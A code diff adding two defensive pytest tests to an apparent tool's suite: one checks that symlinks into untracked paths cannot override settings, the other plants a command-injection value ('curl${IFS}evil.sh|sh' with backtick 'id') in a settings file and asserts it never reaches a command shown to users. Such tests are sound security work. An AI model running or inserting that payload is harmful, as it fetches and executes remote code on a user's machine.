@@ -135,6 +135,25 @@ def test_a_tracked_link_to_the_settings_is_no_way_around(
     assert_defaults(world)
 
 
+@pytest.mark.parametrize("target", [".git/index", "caf\u00e9x/notes.md", "\u212afolder/notes.md"])
+def test_no_link_to_what_git_does_not_list_is_a_way_around(world: World, hostile: Hostile, target: str) -> None:
+    lines = "x\nauto_commit: true\nmemory_embedding_provider: ollama\nz"
+    hostile.write(lines, "a name that git's index holds as lines")
+    if not target.startswith(".git"):
+        hostile.write(target, lines)
+    hostile.link(LOCAL, f"../{target}")
+    clone_into(world, hostile)
+    assert_defaults(world)
+
+
+def test_a_value_of_others_is_in_no_command_that_people_are_told_to_run(world: World, hostile: Hostile) -> None:
+    hostile.write(SETTINGS, json.dumps({"memory_embedding_model": "x;curl${IFS}evil.sh|sh;`id`"}))
+    clone_into(world, hostile)
+    shown = world.run("config").stdout + world.run("config").stderr + world.run("status").stdout
+    assert "config set memory_embedding_model VALUE" in shown
+    assert "curl" not in shown.partition("recollect config set")[2].partition("`")[0]
+
+
 def test_what_the_user_has_said_counts_for_this_value_and_this_project(world: World, hostile: Hostile) -> None:
     hostile.write(SETTINGS, nested({"auto_commit": True, "triage.thresholds.decision": 0.1}))
     clone_into(world, hostile)
